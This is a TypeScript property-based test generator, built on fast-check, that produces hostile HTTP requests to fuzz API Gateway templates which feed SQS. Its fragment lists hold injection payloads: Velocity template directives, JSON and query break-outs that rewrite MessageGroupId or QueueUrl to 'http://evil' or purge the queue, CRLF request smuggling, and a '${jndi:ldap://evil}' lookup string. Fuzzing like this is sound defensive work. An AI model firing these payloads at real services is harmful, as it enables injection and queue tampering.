import fc from 'fast-check';

/** A request as a hostile sender would make it: everything that it chooses. */
export interface HostileRequest {
  readonly method: string;
  /** Below the route, as it stands in the request line, with its leading slash. */
  readonly below: string;
  readonly query: ReadonlyArray<readonly [name: string, value: string]>;
  /** Parts of the query string that are no proper encoding of anything; their names all start with {@link BROKEN_NAME}. */
  readonly brokenQuery: readonly string[];
  readonly headers: ReadonlyArray<readonly [name: string, value: string]>;
  readonly body: Buffer;
}

export const BROKEN_NAME = 'broken';
/** Characters of an id that SQS takes; one more or less is where ids are cut or given up. */
const ID_LENGTHS = [62, 63, 64, 65, 119, 120, 121, 122, 126, 127, 128, 129, 130, 200];

const CONTROLS = Array.from({ length: 0x20 }, (_, code) => String.fromCharCode(code));
const OTHER_CHARACTERS = ['\x7f', '\x80', '\x85', '\xa0', '\xad', '\u0130', '\u200b', '\u2028', '\u2029', '\u202e', '\ufeff', '\ufffd', '\ufffe', '\uffff', 'é', 'é', '🎉', '𝄞', '👩‍👧'];
const QUOTES = ['"', "'", '\\', '`', '“', '＂', '\uff3c'];
/** Each sequence of up to three of them. */
const QUOTE_SEQUENCES = sequences(['"', "'", '\\'], 3);
const TEMPLATE_LANGUAGE = [
  '$', '#', '##', '#*', '*#', '*/', '/*', '$!', '$!{', '${', '$!{x}', '$!{quote}', '${quote}', '\\$x', '\\\\$x', '#set(', '#set($group = "stolen")', '#end', '#else', '#{end}', '#if(true)',
  '#foreach($i in [1..9])', '#evaluate("x")', '#parse("x")', '#include("x")', '#macro(x)', '#[[', ']]#', '#stop', '#@x', '$util', '$util.urlEncode("x")', '$input.body', '$input.json("$")',
  '$context.identity.sourceIp', '$context.responseOverride.status', '$class.inspect("java.lang.Runtime")', '$name.getClass()', '$foreach.hasNext', '$flags', '$separator',
];
const BREAKING_OUT = [
  '","MessageGroupId":"stolen', '\\","MessageGroupId":"stolen', '"},"DelaySeconds":900,"x":{"', '"}}},"QueueUrl":"http://evil"', '\\"]],\\"flags\\":[\\"', '\\u0022', '\\x22', '&MessageGroupId=stolen',
  '&QueueUrl=http%3A%2F%2Fevil', '&Action=PurgeQueue', '&MessageAttribute.1.Name=x', '\r\n', '\r\nX-Amz-Target: AmazonSQS.PurgeQueue', '\r\n\r\nPOST / HTTP/1.1\r\n', '\n', '</script>',
  ']]>', '<!--', '<?xml version="1.0"?>', '{}', '{', '[', ']', '}', '),', '${jndi:ldap://evil}', "'; --",
];
const ENCODED = ['%22', '%5C%22', '%00', '%0d%0a', '%', '%%', '%2', '%u0022', '%C0%AF', '%ED%A0%80', '+', '=', '==', '&', ';', '?', '&amp;', 'AAAA', 'e30=', '=?utf-8?b?IiI=?='];
const WORDS = [
  '~', '~shared', ' ', '\t', '../', '//', '..;/', 'null', 'true', 'false', 'NaN', '-0', '0x10', '1e400', 'undefined', '__proto__', 'constructor', 'prototype', 'toString', 'get', 'size', 'keySet', 'length',
];
const FRAGMENTS = [...CONTROLS, ...OTHER_CHARACTERS, ...QUOTES, ...QUOTE_SEQUENCES, ...TEMPLATE_LANGUAGE, ...BREAKING_OUT, ...ENCODED, ...WORDS];

const fragment = fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...FRAGMENTS) }, fc.string({ unit: 'binary', maxLength: 8 }), fc.string({ unit: 'grapheme', maxLength: 8 }));
/** Texts whose URL-encoded form is as long as an id may just be, or just not be. */
const longText = fc.tuple(fc.constantFrom(...ID_LENGTHS), fc.constantFrom('', '~', '"', 'é', '🎉'))
  .map(([length, end]) => 'x'.repeat(Math.max(0, length - encodeURIComponent(end).length)) + end);
const withoutHalves = (text: string): string => text.replace(/\p{Surrogate}/gu, '?');

export const hostileText = fc.oneof({ weight: 9, arbitrary: fc.array(fragment, { maxLength: 6 }).map(parts => parts.join('')) }, { weight: 1, arbitrary: longText }).map(withoutHalves);

/** Names that mean something to Java's or JavaScript's maps, or to the templates; some differ in case only. */
const HEADER_NAMES = [
  'X-Group', 'x-group', 'X-GROUP', 'x-GROUP', 'X-Delivery', 'x-delivery', 'get', 'size', 'keySet', 'KEYSET', 'length', 'put', 'isEmpty', 'class', 'constructor', '__proto__', 'toString', 'hasOwnProperty',
  'Authorization', 'authorization', 'User-Agent', 'Accept', 'Cookie', '1', '10', '2', '-1', '0', 'X-Forwarded-For', 'x-amzn-requestid', 'X-Amz-Target', 'Content-Encoding', '!#$%&\'*+-.^_`|~', '$', '#end', '#set',
  '$headers', 'MessageGroupId', 'QueueUrl', 'Action',
];
/** Not what decides before a template sees the request. */
const harmless = ([name, value]: readonly [string, string]) => [name, name.toLowerCase() === 'content-encoding' ? 'identity' : value] as const;

/** What HTTP allows in a header, which is decoded byte by byte. */
const httpHeaderValue = hostileText.map(text => text.replace(/[^\t\x20-\x7e\x80-\xff]/g, '').replace(/^[\t ]+|[\t ]+$/g, '').slice(0, 300));
const httpHeaderName = fc.oneof(fc.constantFrom(...HEADER_NAMES), fc.stringMatching(/^x-[a-zA-Z0-9_-]{1,12}$/));
const httpHeaders = fc.array(fc.tuple(httpHeaderName, httpHeaderValue), { maxLength: 10 }).map(pairs => pairs.map(harmless));

/** Names and values that no HTTP server lets through, as a template would have to bear them. */
const anyHeader = fc.tuple(fc.oneof(httpHeaderName, hostileText.filter(name => name !== '')), hostileText);
const anyHeaders = fc.array(anyHeader, { maxLength: 10 }).map(pairs => pairs.map(harmless));

const PARAMETER_NAMES = ['group', 'delivery', 'get', 'size', 'keySet', 'length', 'class', '__proto__', 'constructor', '10', '2', '-1', 'x-group', 'X-Group', 'QueueUrl'];
const parameter = fc.tuple(fc.oneof(fc.constantFrom(...PARAMETER_NAMES), hostileText), hostileText);
const query = fc.uniqueArray(parameter, { maxLength: 6, selector: ([name]) => name }).map(pairs => pairs.filter(([name]) => name !== '' && !name.startsWith(BROKEN_NAME)));
/** As many as the loops of a template go through, the broken ones included. */
const manyParameters = fc.integer({ min: 980, max: 996 }).map(count => Array.from({ length: count }, (_, index) => [`p${index}`, ''] as const));
const brokenPart = fc.constantFrom('%', '%zz', '%C0%AF', '%C0%A2', '%E0%80%A2', '%F0%80%80%A2', '%ED%A0%80', '%ED%BF%BF', '%F0%9F%8E', '%FF', '%u0022', '"', '\\', '{', '|', '=', '==').map(text => `${BROKEN_NAME}${text.length}=${text}`);

/** Percent-encoded, or of those characters as they are that a request line can hold. */
const segment = fc.oneof(hostileText.map(text => encodeURIComponent(text)), hostileText.map(text => text.replace(/[^!-~]|[#?/]/g, '')));
const below = fc.array(segment, { maxLength: 3 }).map(segments => segments.map(text => `/${text}`).join(''));

/** Doubles of few digits: others print differently from one Java to the next. */
const double = fc.tuple(fc.integer({ min: -99_999, max: 99_999 }), fc.integer({ min: -12, max: 20 })).map(([digits, exponent]) => Number(`${digits}e${exponent}`));
/** Half of a surrogate pair, which JSON can name although UTF-8 cannot hold it. */
const halves = fc.tuple(fc.constantFrom('\\ud800', '\\udfff', '\\ud83c', '\\udf89', '\\ud83c\\udf89', '\\udf89\\ud83c'), fc.constantFrom('', 'x', '\\u0000', '\\u0022', '\\u007e', '~')).map(parts => `{"order":{"id":"${parts.join('')}"}}`);

/** JSON that ends early or goes on, or in which something is put, as a permissive parser may take it or not. */
const cutJson = fc.tuple(hostileText, fc.nat(), fc.constantFrom('', '}', ']', '"', '\\', ',', ':', '\0', '\x1a', '{'))
  .map(([id, at, inserted]) => [JSON.stringify({ order: { id, items: [1, { a: null }] } }), at, inserted] as const)
  .map(([text, at, inserted]) => text.slice(0, at % text.length) + inserted + (at % 2 === 0 ? text.slice(at % text.length) : ''));
/** A parser gives up at a depth of 400. */
const deepJson = fc.tuple(fc.integer({ min: 396, max: 404 }), fc.constantFrom(['[', ']'], ['{"order":', '}'])).map(([depth, [open, close]]) => `${open.repeat(depth)}1${close.repeat(depth)}`);

/** Values at the place that the templates under test read, and texts that are almost JSON. */
const json = fc.oneof(
  cutJson,
  deepJson,
  fc.oneof(hostileText, fc.integer(), double, fc.boolean(), fc.constant(null), fc.array(fc.integer())).map(id => JSON.stringify({ order: { id } })),
  fc.json(),
  halves,
  fc.tuple(fc.json(), fragment).map(([text, inserted]) => text + inserted),
  fc.constantFrom(
    "{'order':{'id':'a'}}", '{"order":{"id":007}}', '{"order":{"id":1.50}},', '{order:{id:x y}}', '\ufeff{"order":{"id":1}}', '{"order":{"id":"a"', '[1', '{"order":{"id":NaN}}',
    '{"order":{"id":"a"},"order":{"id":"b"}}', '{"order":{"id":"\\u0022,\\u0022MessageGroupId\\u0022:\\u0022x"}}', '{"order":{"__proto__":{"id":1}}}', '{"order":[{"id":1}]}', '{}', '{} ', '[]', '{"":{"":1}}',
  ),
);

/** A body that is text to API Gateway, though not always UTF-8. */
export const textBody = fc.oneof(
  fc.oneof(json, hostileText).map(text => Buffer.from(withoutHalves(text))),
  fc.uint8Array({ maxLength: 40 }).map(bytes => Buffer.from(bytes)),
  fc.constantFrom('c0af', 'c0a2', 'e080a2', 'eda080', 'f48fbfbf', 'f4908080', 'f09f8e', 'fffe22', 'efbbbf7b7d', '00').map(bytes => Buffer.from(bytes, 'hex')),
);

export const binaryBody = fc.oneof(textBody, fc.uint8Array({ maxLength: 200 }).map(bytes => Buffer.from(bytes)));

interface Reach {
  /** How a request comes: through an HTTP server, which refuses some, or straight to the templates. */
  readonly through: 'http' | 'nothing';
}

export function hostileRequest(body: fc.Arbitrary<Buffer>, { through }: Reach = { through: 'http' }): fc.Arbitrary<HostileRequest> {
  return fc.record({
    method: fc.constantFrom('POST', 'PUT', 'PATCH', 'DELETE'),
    below,
    query: fc.oneof({ weight: 299, arbitrary: query }, { weight: 1, arbitrary: manyParameters }),
    brokenQuery: fc.array(brokenPart, { maxLength: 2 }),
    headers: through === 'http' ? httpHeaders : fc.oneof(httpHeaders, anyHeaders),
    body,
  });
}

/** Percent-encoded, but for the blank, which may also be written as a plus, and for what is broken. */
export function queryString({ query: pairs, brokenQuery }: HostileRequest): string {
  return [...pairs.map(([name, value]) => `${encodeURIComponent(name)}=${encodeURIComponent(value).replaceAll('%20', '+')}`), ...brokenQuery].join('&');
}

function sequences(characters: readonly string[], length: number): string[] {
  if (length === 0) return [];
  const shorter = ['', ...sequences(characters, length - 1)];
  return [...new Set(shorter.flatMap(text => characters.map(character => text + character)))];
}
